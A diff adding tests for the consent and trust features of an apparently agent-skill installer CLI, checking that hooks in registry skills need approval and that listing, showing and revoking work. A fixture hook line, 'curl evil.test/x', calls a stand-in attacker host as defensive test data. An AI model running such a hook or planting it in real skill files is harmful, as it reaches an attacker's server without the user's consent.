@@ -203,6 +203,56 @@ describe('the default policy', () => {
   });
 });
 
+describe('approvals', () => {
+  test('are listed, shown and revoked', async () => {
+    const workspace = clone({ 'ops/hooked/SKILL.md': HOOKED });
+    expect((await workspace.ok('trust list')).stdout).toContain('not trusted any file');
+    const { stdout } = await workspace.ok('trust approve ops/hooked');
+    expect(stdout).toContain('+ SKILL.md: hook on Stop runs: curl evil.test/x');
+    expect(installed(workspace)).toEqual([]);
+    expect((await workspace.ok('trust list')).stdout).toMatch(
+      /^ops\/hooked +1 capability +.*registry$/m,
+    );
+    expect((await workspace.ok('trust show ops/hooked')).stdout).toMatch(
+      /hook:sha256:[0-9a-f]{64}/,
+    );
+    await workspace.ok('sync');
+    await workspace.ok('trust revoke ops/hooked');
+    writeTree(workspace.registry, { 'ops/hooked/SKILL.md': `${HOOKED}More.\n` });
+    expect((await workspace.error('sync')).error.code).toBe('materialize.consent_required');
+    expect((await workspace.error('trust revoke ops/hooked')).error.code).toBe(
+      'registry.not_found',
+    );
+    expect((await workspace.error('trust approve ops/hookd')).error.suggested_action).toContain(
+      'ops/hooked',
+    );
+    expect((await workspace.error('sync --approve ops/nothing')).error.code).toBe(
+      'registry.not_found',
+    );
+  });
+
+  test('are not needed for a registry that the user named with catalog init', async () => {
+    const workspace = openWorkspace(EXECUTABLE);
+    await workspace.ok('init --registry ../registry --harness claude-code');
+    await workspace.ok('sync');
+    expect(installed(workspace)).toHaveLength(2);
+    expect((await workspace.ok('trust list')).stdout).toContain('registry you chose');
+    await workspace.ok('trust revoke .');
+    writeTree(workspace.registry, { 'ops/hooked/SKILL.md': `${HOOKED}More.\n` });
+    expect((await workspace.error('sync')).error.code).toBe('materialize.consent_required');
+  });
+
+  test('come with the facts in show and outdated', async () => {
+    const workspace = clone({ 'ops/hooked/SKILL.md': HOOKED });
+    const line = 'SKILL.md: hook on Stop runs: curl evil.test/x';
+    expect((await workspace.ok('show ops/hooked')).stdout).toContain(`  ${line}`);
+    const { stdout } = await workspace.run('outdated');
+    expect(stdout).toContain(`+ ${line}`);
+    await workspace.ok('trust approve ops/hooked');
+    expect((await workspace.run('outdated')).stdout).not.toContain('+ SKILL.md');
+  });
+});
+
 describe('executable_content', () => {
   test('denies artifacts and names the file, and delivers the others', async () => {
     const workspace = openWorkspace({ ...EXECUTABLE, ...PLAIN });
